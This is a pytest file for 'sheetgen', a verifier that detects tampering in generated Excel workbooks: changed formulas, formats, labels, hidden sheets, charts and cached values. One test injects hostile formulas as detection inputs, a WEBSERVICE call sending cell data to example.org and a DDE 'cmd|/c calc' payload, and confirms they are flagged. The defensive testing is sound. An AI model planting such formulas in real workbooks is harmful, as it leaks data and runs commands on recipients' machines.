"""A workbook file is compared with what its spec makes today: whatever was changed in it is found, and called by name.

`numbers` are wrong where a value, a formula, a given number or what a viewer shows is; anything else has `changed`.
"""

from __future__ import annotations

import re
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from by_specs import ROOT, compiled
from conftest import falsify_cached_values, rewrite
from openpyxl import load_workbook
from openpyxl.styles import PatternFill
from openpyxl.worksheet.formula import ArrayFormula
from typer.testing import CliRunner

import sheetgen
from sheetgen.cmd import cli
from sheetgen.proof.engines import libreoffice
from sheetgen.proof.report import Report

NAMES = ("backpropagation", "gcn")


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("made")
    files = {name: compiled(name).save(folder / f"{name}.xlsx") for name in NAMES}
    text = (ROOT / "specs" / "backpropagation.yaml").read_text(encoding="utf-8") + "\nformulas: blocks\n"
    files["blocks"] = sheetgen.compile_text(text, base=ROOT / "specs").save(folder / "blocks.xlsx")
    return files


@pytest.fixture
def file(made: dict[str, Path], tmp_path: Path) -> Path:
    return Path(shutil.copy(made["backpropagation"], tmp_path / "spoiled.xlsx"))


def cell_of(path: Path, name: str) -> tuple[str, str]:
    """The sheet and first cell of a matrix."""
    sheet, area = load_workbook(path).defined_names[name].attr_text.split("!")
    return sheet.strip("'"), area.replace("$", "").split(":")[0]


def add_part(path: Path, name: str, content: str) -> None:
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(name, content)


def kinds(report: Report) -> set[str]:
    return {change.what for change in report.changes}


def saved(path: Path, change: Callable[..., object]) -> Path:
    """The file after a change through openpyxl, which writes all of it anew."""
    book = load_workbook(path)
    change(book)
    book.save(path)
    return path


def test_what_nobody_touched_is_right(made: dict[str, Path]) -> None:
    for path in made.values():
        report = sheetgen.verify_workbook(path)
        assert report.ok and report.numbers_ok and not report.changes and not report.notes and not report.saved_by


# Wrong numbers


@pytest.mark.parametrize("manual", [False, True])
def test_cached_values_that_a_viewer_would_show(file: Path, manual: bool) -> None:
    assert falsify_cached_values(file) > 200
    if manual:
        rewrite(file, "xl/workbook.xml", lambda xml: re.sub(r"<calcPr[^>]*>", '<calcPr calcMode="manual"/>', xml))
    report = sheetgen.verify_workbook(file)
    assert not report.numbers_ok and report.first is not None
    assert report.first.kind == "cached" and report.first.found == 999
    assert report.wrong > 150
    assert ("calculation" in kinds(report)) is manual
    assert "shows another value until it is recalculated; expected" in str(report.first)


def test_an_array_formula_shrunk_with_constants_in_the_rest(made: dict[str, Path], tmp_path: Path) -> None:
    path = Path(shutil.copy(made["blocks"], tmp_path / "blocks.xlsx"))
    _, first = cell_of(path, "A1_")
    ref = re.escape(f'ref="{first}:')
    rewrite(path, "worksheets/sheet1", lambda xml: re.sub(ref + r"\w+\"", f'ref="{first}"', xml))
    finding = sheetgen.verify_workbook(path).first
    assert finding is not None and (finding.kind, finding.matrix, finding.cell) == ("formula", "A1", first)
    assert f"in {first}:" in str(finding.expected) and str(finding.found).endswith(f"in {first}")


def test_an_array_formula_made_a_plain_one(file: Path) -> None:
    sheet, first = cell_of(file, "Z1_")
    pattern = rf'(<c r="{first}"[^>]*>)<f t="array" ref="{first}">'
    rewrite(file, "worksheets/sheet1", lambda xml: re.sub(pattern, r"\1<f>", xml))
    finding = sheetgen.verify_workbook(file).first
    assert finding is not None and (finding.kind, finding.sheet, finding.cell) == ("formula", sheet, first)
    assert str(finding.expected).startswith("{=MMULT(") and str(finding.found).startswith("=MMULT(")


def test_a_formula_outside_of_all_matrices(file: Path) -> None:
    def change(book) -> None:
        sheet = book["Chart data"]
        cells = [cell for row in sheet.iter_rows() for cell in row if str(cell.value).startswith("=")]
        cells[0].value = "=1+1"

    report = sheetgen.verify_workbook(saved(file, change))
    assert not report.numbers_ok and report.first is not None
    assert (report.first.sheet, report.first.kind, report.first.found) == ("Chart data", "formula", "=1+1")
    assert not report.changes


# Changed otherwise


def test_every_number_format_42(file: Path) -> None:
    def change(book) -> None:
        for cell in (cell for row in book["Canvas"].iter_rows() for cell in row):
            cell.number_format = '"42"'

    report = sheetgen.verify_workbook(saved(file, change))
    assert report.numbers_ok and not report.ok
    (found,) = report.changes
    assert (found.what, found.where, found.found) == ("number format", "Canvas!A1", '"42"') and found.count > 300


def test_number_formats_42_written_into_the_styles(file: Path) -> None:
    rewrite(file, "xl/styles.xml", lambda xml: re.sub('formatCode="[^"]*"', 'formatCode="&quot;42&quot;"', xml))
    report = sheetgen.verify_workbook(file)
    assert report.numbers_ok and not report.ok
    assert kinds(report) <= {"number format", "rule's look"} and '"42"' in report.changes[0].found


@pytest.mark.parametrize("through_openpyxl", [False, pytest.param(True, marks=pytest.mark.slow)])
@pytest.mark.parametrize("text", ["Backpropagation", "Each of four neurons", "Layer 2"])
def test_a_changed_title_sentence_or_label(file: Path, text: str, through_openpyxl: bool) -> None:
    if through_openpyxl:
        saved(file, lambda book: None)
        assert sheetgen.verify_workbook(file).ok
    part = "worksheets/sheet" if through_openpyxl else "sharedStrings"
    rewrite(file, part, lambda xml: re.sub(f"(<t[^>]*>){text}", r"\1Something else", xml))
    report = sheetgen.verify_workbook(file)
    assert report.numbers_ok and not report.ok and kinds(report) == {"text"}
    assert report.changes[0].expected.startswith(text) and report.changes[0].found.startswith("Something else")


def test_a_moved_defined_name(file: Path) -> None:
    def change(book) -> None:
        book.defined_names["W1_"].attr_text = "'Canvas'!$A$1:$C$4"

    report = sheetgen.verify_workbook(saved(file, change))
    assert report.numbers_ok and not report.ok
    (moved,) = report.changes
    assert (moved.what, moved.where, moved.found) == ("defined name", "W1_", "CANVAS!$A$1:$C$4")


@pytest.mark.parametrize(
    "formula", ['=WEBSERVICE("http://example.org/?"&W1_)', "=cmd|'/c calc'!A0", "=SUM(W1_)", "=[1]Other!A1"]
)
@pytest.mark.parametrize("place", ["ZZ9", pytest.param("A1", marks=pytest.mark.slow)])
def test_an_extra_formula(file: Path, formula: str, place: str) -> None:
    def change(book) -> None:
        book["Canvas"][place] = formula

    report = sheetgen.verify_workbook(saved(file, change))
    assert not report.ok
    (extra,) = report.changes
    assert (extra.what, extra.where, extra.found) == ("formula", f"Canvas!{place}", formula)


@pytest.mark.parametrize("state", ["veryHidden", pytest.param("hidden", marks=pytest.mark.slow)])
def test_an_extra_hidden_sheet(file: Path, state: str) -> None:
    def change(book) -> None:
        book.create_sheet("More").sheet_state = state

    report = sheetgen.verify_workbook(saved(file, change))
    assert report.numbers_ok and not report.ok
    (extra,) = report.changes
    assert (extra.what, extra.where) == ("sheet", "More") and extra.found.startswith(state)


def test_a_hidden_sheet_row_or_column(file: Path) -> None:
    def change(book) -> None:
        book["Steps"].sheet_state = "hidden"
        book["Canvas"].row_dimensions[9].hidden = True
        book["Canvas"].column_dimensions["G"].hidden = True

    assert {"sheet", "hidden row", "hidden column"} <= kinds(sheetgen.verify_workbook(saved(file, change)))


def test_two_cells_with_one_address(file: Path) -> None:
    sheet, first = cell_of(file, "W1_")
    double = re.compile(rf'(<c r="{first}"[^>]*>)<v>1</v></c>')
    rewrite(file, "worksheets/sheet1", lambda xml: double.sub(r"\1<v>7</v></c>\1<v>1</v></c>", xml))
    report = sheetgen.verify_workbook(file)
    assert not report.ok
    assert ("cell that stands there twice", f"{sheet}!{first}") in {(c.what, c.where) for c in report.changes}


def test_rules_validations_notes_links_and_charts(file: Path) -> None:
    def change(book) -> None:
        sheet = book["Canvas"]
        for ranges in list(sheet.conditional_formatting)[:1]:
            ranges.rules[0].formula = ["TRUE"]
        sheet.data_validations.dataValidation.pop()
        next(cell for row in book["Spec"].iter_rows() for cell in row if cell.comment).comment.text = "Not so."
        next(cell for row in book["Steps"].iter_rows() for cell in row if cell.hyperlink).hyperlink.location = "Spec!A1"
        sheet._charts[0].series[0].val.numRef.f = "'Chart data'!$A$1:$A$2"
        sheet.merge_cells("ZA1:ZB2")

    found = kinds(sheetgen.verify_workbook(saved(file, change)))
    assert {"rule", "validation", "note", "link", "chart", "merged cells"} <= found


def test_parts_that_could_do_anything(file: Path) -> None:
    add_part(file, "xl/externalLinks/externalLink1.xml", "<externalLink/>")
    add_part(file, "xl/vbaProject.bin", "code")
    report = sheetgen.verify_workbook(file)
    assert {change.where for change in report.changes} == {"xl/externalLinks/externalLink1.xml", "xl/vbaProject.bin"}


def test_a_part_whose_meaning_isn_t_compared(file: Path) -> None:
    rewrite(file, "xl/theme/theme1.xml", lambda xml: xml.replace("Office", "Other", 1))
    (change,) = sheetgen.verify_workbook(file).changes
    assert (change.what, change.where) == ("part of the file", "xl/theme/theme1.xml")


def test_a_changed_look_is_grouped(file: Path) -> None:
    def change(book) -> None:
        for row in book["Canvas"][book.defined_names["W1_"].attr_text.split("!")[1]]:
            for cell in row:
                cell.fill = PatternFill("solid", start_color="FF123456")

    first = cell_of(file, "W1_")[1]
    (change_,) = sheetgen.verify_workbook(saved(file, change)).changes
    assert (change_.what, change_.where, change_.count) == ("fill", f"Canvas!{first}", 12)
    assert str(change_).startswith(f"Canvas!{first} and 11 more: fill changed; expected")


# No fault


@pytest.mark.parametrize("name", ["gcn", pytest.param("backpropagation", marks=pytest.mark.slow)])
def test_saved_by_openpyxl(name: str, made: dict[str, Path], tmp_path: Path) -> None:
    report = sheetgen.verify_workbook(saved(Path(shutil.copy(made[name], tmp_path / "saved.xlsx")), lambda book: None))
    assert report.ok and report.saved_by == "another program" and not report.notes


@pytest.fixture(scope="module")
def by_libreoffice(made: dict[str, Path], tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    return dict(zip(made, libreoffice.convert(list(made.values()), "xlsx", tmp_path_factory.mktemp("lo")), strict=True))


@pytest.mark.libreoffice
@pytest.mark.parametrize("name", [*NAMES, "blocks"])
def test_saved_by_libreoffice(name: str, by_libreoffice: dict[str, Path]) -> None:
    report = sheetgen.verify_workbook(by_libreoffice[name])
    assert report.ok, (report.first, report.changes)
    assert report.saved_by.startswith("LibreOffice")


@pytest.mark.libreoffice
def test_what_was_changed_before_libreoffice_saved_it_is_found(made: dict[str, Path], tmp_path: Path) -> None:
    path = Path(shutil.copy(made["gcn"], tmp_path / "gcn.xlsx"))

    def change(book) -> None:
        sheet = book["Canvas"]
        place = cell_of(path, "W1_")[1]
        sheet[place].number_format = '"42"'
        sheet["A1"] = "Another title"
        sheet["ZZ3"] = "=SUM(W1_)"

    (again,) = libreoffice.convert([saved(path, change)], "xlsx", tmp_path)
    report = sheetgen.verify_workbook(again)
    assert report.numbers_ok and kinds(report) == {"number format", "text", "formula"}


def test_notes_of_a_reader_are_listed(file: Path) -> None:
    def change(book) -> None:
        book["Canvas"]["ZZ9"] = "Ask about this one."
        book["Canvas"]["ZZ10"] = 42
        book.create_sheet("Mine")["A1"] = "My own sheet"

    report = sheetgen.verify_workbook(saved(file, change))
    assert report.ok
    assert set(report.notes) == {"Canvas!ZZ9: Ask about this one.", "Canvas!ZZ10: 42.0", "sheet Mine"}


def test_what_a_reader_sets_is_no_fault(file: Path) -> None:
    """The number of the step that is shown; the sentence beside it follows."""

    def change(book) -> None:
        book["Canvas"]["A3"] = 7

    report = sheetgen.verify_workbook(saved(file, change))
    assert report.ok and report.notes == ("Canvas!A3: 7.0",)


def test_a_given_number_that_was_changed(file: Path) -> None:
    sheet, first = cell_of(file, "W1_")

    def change(book) -> None:
        book[sheet][first] = 5

    report = sheetgen.verify_workbook(saved(file, change))
    assert report.first is not None and (report.first.kind, report.first.cell) == ("given", first)
    assert (report.first.expected, report.first.found) == (1, 5) and not report.changes


def test_a_formula_in_place_of_a_given_number(file: Path) -> None:
    sheet, first = cell_of(file, "W1_")

    def change(book) -> None:
        book[sheet][first] = "=1"

    finding = sheetgen.verify_workbook(saved(file, change)).first
    assert finding is not None and (finding.kind, finding.found) == ("given", "=1")


def test_a_plain_cell_in_an_array_formula_s_place(file: Path) -> None:
    sheet, first = cell_of(file, "Z1_")

    def change(book) -> None:
        book[sheet][first] = ArrayFormula(first, "=MMULT(W1_,X)")

    finding = sheetgen.verify_workbook(saved(file, change)).first
    assert finding is not None and finding.kind == "formula" and finding.found == "=MMULT(W1_,X)"


def test_the_command_tells_both_classes(file: Path) -> None:
    def change(book) -> None:
        book["Canvas"]["A1"] = "Another title"
        book["Canvas"]["ZZ9"] = "A note"

    saved(file, change)
    result = CliRunner().invoke(cli.app, ["verify", str(file)])
    assert result.exit_code == 1
    assert "verified by IronCalc" in result.stdout and "otherwise changed in 1 place" in result.stdout
    assert "saved by another program, notes of your own: 1" in result.stdout
    assert "Canvas!A1: text changed; expected Backpropagation, found Another title" in result.stderr
